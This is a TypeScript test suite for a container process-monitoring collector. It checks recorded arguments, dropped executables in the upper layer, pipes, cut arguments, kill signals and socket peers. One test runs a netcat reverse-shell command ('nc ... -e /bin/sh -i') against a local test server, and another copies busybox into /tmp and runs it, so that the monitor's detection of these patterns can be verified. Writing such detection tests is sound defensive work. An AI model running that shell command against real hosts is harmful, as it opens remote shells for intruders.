// Processes of a real container: who they are, what they run, and what they are connected to.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { after, before, test } from 'node:test';
import { kernelTierSkip } from './testing/kernel-tier.ts';
import { RecordedCollector } from './testing/recorded-collector.ts';
import { createTestCgroup, type TestCgroup } from './testing/test-cgroup.ts';
import { TestContainer, testImage } from './testing/test-container.ts';

const skip = kernelTierSkip(['runc', 'busybox', 'mount']);
const stack = new AsyncDisposableStack();
let cgroup: TestCgroup;
let container: TestContainer;
let collector: RecordedCollector;

before(async () => {
  if (skip) return;
  cgroup = stack.use(await createTestCgroup());
  collector = stack.use(await RecordedCollector.start(['--scope', `cgroup:${cgroup.path}`]));
  container = stack.use(await TestContainer.start(cgroup.path));
});
after(() => stack.disposeAsync());

test('an exec and its end, with all facts', { skip, timeout: 20_000 }, async () => {
  await container.exec(['/bin/true', 'a b', '', 'ü']);
  const { process, ...event } = await collector.start((one) => one.process.args[1] === 'a b');
  assert.deepEqual(process.args, ['/bin/true', 'a b', '', 'ü']);
  assert.equal(process.argsCut, false);
  assert.equal(process.name, 'true');
  assert.equal(process.executable.path, '/bin/busybox');
  assert.equal(process.executable.upperLayer, false);
  assert.equal(process.cwd, '/tmp');
  assert.deepEqual([process.uid, process.gid], [1000, 1001]);
  assert.equal(process.pid === process.nsPid, false);
  assert.equal(process.cgroupPath, `${cgroup.path}/${container.id}`);
  assert.equal(event.container?.id, container.id);
  assert.equal(event.container?.image, testImage);
  // runc exec stands between with pipes.
  assert.equal(process.stdin?.type, 'pipe');
  const end = await collector.end((one) => one.process.pid === process.pid);
  assert.deepEqual(end.exit, { code: 0 });
  assert.deepEqual(end.process.args, process.args);
  assert.equal(end.container?.image, testImage);
});

test('a file that is not in the image lies in the upper layer, one that is does not', {
  skip,
  timeout: 20_000,
}, async () => {
  await container.exec(['/bin/sh', '-c', '/bin/cp /bin/busybox /tmp/true; /tmp/true dropped; exit 7']);
  const dropped = await collector.start((one) => one.process.args[1] === 'dropped');
  assert.equal(dropped.process.executable.path, '/tmp/true');
  assert.equal(dropped.process.executable.upperLayer, true);
  const copy = await collector.start((one) => one.process.name === 'cp');
  assert.equal(copy.process.executable.upperLayer, false);
  assert.equal(copy.ancestors?.[0]?.name, 'sh');
  assert.deepEqual(copy.ancestors?.[0]?.args?.slice(0, 2), ['/bin/sh', '-c']);
  const shell = await collector.end((one) => one.process.pid === copy.process.ppid);
  assert.equal(shell.exit.code, 7);
});

test('the two ends of a pipe know each other', { skip, timeout: 20_000 }, async () => {
  await container.exec(['/bin/sh', '-c', '/bin/echo piped | /bin/cat -']);
  const echo = await collector.start((one) => one.process.args[1] === 'piped');
  const cat = await collector.start((one) => one.process.name === 'cat');
  assert.equal(cat.process.stdin?.type, 'pipe');
  assert.equal(cat.process.stdin?.inode, echo.process.stdout?.inode);
  assert.equal(echo.process.pipedTo === 'cat' || cat.process.pipedFrom === 'echo', true);
});

test('arguments that are too long are cut and marked', { skip, timeout: 20_000 }, async () => {
  const long = 'x'.repeat(20_000);
  await container.exec(['/bin/true', 'long', long]);
  const { process } = await collector.start((one) => one.process.args[1] === 'long');
  assert.equal(process.argsCut, true);
  assert.equal(long.startsWith(process.args[2] ?? 'none'), true);
  assert.equal((process.args[2]?.length ?? 0) >= 4096, true);
});

test('a shell on a socket shows its peer', { skip, timeout: 20_000 }, async () => {
  const server = createServer((socket: Socket) => socket.on('error', () => undefined).end('exit\n'));
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const { port } = server.address() as AddressInfo;
  await container.exec(['/bin/nc', '127.0.0.1', String(port), '-e', '/bin/sh', '-i']);
  const shell = await collector.start(
    (one) => one.process.args[0] === '/bin/sh' && one.process.args[1] === '-i',
  );
  assert.deepEqual([shell.process.stdin?.type, shell.process.stdin?.peer], ['socket', `127.0.0.1:${port}`]);
  assert.equal(shell.process.stdout?.peer, `127.0.0.1:${port}`);
  server.close();
});

test('a signal that ends a process is told', { skip, timeout: 20_000 }, async () => {
  await container.exec(['/bin/sh', '-c', 'kill -9 $$', 'killed']);
  const end = await collector.end((one) => one.process.args[3] === 'killed');
  assert.deepEqual(end.exit, { code: 0, signal: 9 });
});

test('nothing was out of shape, and ids are unique', { skip, timeout: 20_000 }, () => {
  assert.deepEqual(collector.bad, []);
  assert.equal(new Set(collector.events.map((event) => event.id)).size, collector.events.length);
});
